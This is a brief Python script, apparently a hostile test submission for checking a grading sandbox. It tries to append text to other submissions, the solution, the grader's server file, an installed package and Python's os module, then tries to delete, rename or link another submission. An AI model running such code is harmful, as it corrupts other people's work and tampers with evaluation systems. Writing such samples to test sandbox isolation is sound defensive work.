"""Writes into other submissions, the assignment, and wherever it can."""

import os


def attack():
    done = []
    for path in ("OTHER", "SOLUTION", "/tmp/hostile", "../hostile", "/dev/shm/hostile",
                 "/scratch/../hostile", "/runner/server.py", "SOURCE/hostile.py",
                 "/packages/numpy/hostile.py", os.__file__, "/var/tmp/hostile"):  # fmt: skip
        try:
            with open(path, "a") as file:
                file.write("# hostile")
            done.append(path)
        except OSError:
            continue
    for way in (os.remove, os.rmdir, lambda p: os.rename(p, "mine"), lambda p: os.link(p, "mine")):
        for path in ("OTHER", os.path.dirname("OTHER")):
            try:
                way(path)
                done.append(f"removed {path}")
            except OSError:
                continue
    return "; ".join(done)
